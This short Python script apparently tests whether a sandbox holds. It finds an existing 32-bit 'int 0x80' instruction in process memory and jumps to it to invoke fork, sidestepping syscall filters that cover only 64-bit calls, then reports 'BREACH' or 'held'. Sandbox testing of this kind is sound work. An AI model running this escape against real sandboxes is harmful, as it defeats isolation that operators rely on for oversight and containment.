# Finds int 0x80 in code that is there already, and jumps to it with a register set to a 32-bit fork.
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)


def code_around(address):
    """What can be read from 4 MB before an address on: where there is no memory, write says so."""
    reading, writing = os.pipe()
    at = (address - (4 << 20)) & ~4095
    for _ in range(2048):
        if libc.write(writing, ctypes.c_void_p(at), 4096) == 4096:
            yield at, os.read(reading, 4096)
        at += 4096


def solve(target):
    if os.uname().machine != "x86_64":
        return "held: this is machine code of x86-64"
    for function in (libc.getpid, ctypes.pythonapi.Py_GetVersion):
        for at, page in code_around(ctypes.cast(function, ctypes.c_void_p).value):
            place = page.find(b"\xcd\x80\xc3")
            if place >= 0:
                # a call with two floating-point arguments leaves 2 in eax, which is fork in 32-bit programs
                fork = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_double, ctypes.c_double)(at + place)
                process = fork(0.0, 0.0)
                if process == 0:
                    time.sleep(30)
                    os._exit(0)
                return "BREACH: a process was started" if process > 0 else "held"
    return "held: there is none"
